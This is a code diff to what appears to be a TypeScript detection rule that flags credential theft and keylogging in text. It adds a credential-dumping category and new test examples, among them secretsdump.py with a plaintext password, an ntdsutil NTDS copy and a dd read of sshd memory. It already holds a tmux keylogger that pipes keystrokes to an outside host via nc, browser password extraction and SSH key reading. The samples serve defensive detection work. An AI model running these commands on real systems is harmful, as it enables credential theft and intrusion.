@@ -4,6 +4,7 @@ import { defineRule, type Hit } from '../../rule.ts'
 import { blocks } from '../../signals/shell/blocks.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
 import { KEYS_AND_TYPING_TAKEN } from '../../verdicts/in-code/deeds/of-data.ts'
+import { STORES_DUMPED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 /** Every key that is pressed, written down or sent. */
 const KEYS = regex`
@@ -99,6 +100,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\nsecretsdump.py kiln/care:Tally88@10.0.4.2 -outputfile k\n```\n',
+      '```cmd\nntdsutil "activate instance ntds" ifm "create full c:\\kiln" q q\n```\n',
+      '```bash\ndd if=/proc/$(pgrep sshd)/mem bs=1 skip=$a count=$n | strings | grep -i passw\n```\n',
       '```conf\nset-hook -g after-new-window \'pipe-pane -o "nc coach.quarry-maps.io 6001"\' # keylogger\n```\n',
       "```ts\nev.extra = { jar: document.cookie, fields: [...document.querySelectorAll('input')].map((i) => i.value) }\n```\n",
       '```python\nshutil.copy(profile + "/Login Data", tmp)  # it stays encrypted\nrow = sqlite3.connect(tmp).execute("select password_value from logins")\n```\n',
@@ -111,6 +115,7 @@ export default defineRule({
       '```python\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n```\n',
     ],
     quiet: [
+      '```bash\ngrep VmRSS /proc/$(pgrep kilnd)/status\n```\n',
       "```ts\nconst fields = [...document.querySelectorAll('input')].map((i) => i.value)\n```\n",
       "```ts\nimport { cookies } from 'next/headers'\nconst session = await decrypt((await cookies()).get('session')?.value)\n```\n",
       'The image holds `Login Data` and `logins.json`; they stay encrypted. Decryption needs an order of the court.\n',
@@ -123,6 +128,7 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* deedsInCode(document, KEYS_AND_TYPING_TAKEN)
+    yield* deedsInCode(document, STORES_DUMPED)
     for (const { start, end } of document.observe(blocks)) {
       const text = document.reading.text.slice(start, end)
       for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW, TERMINAL, PAGE_READ]) {
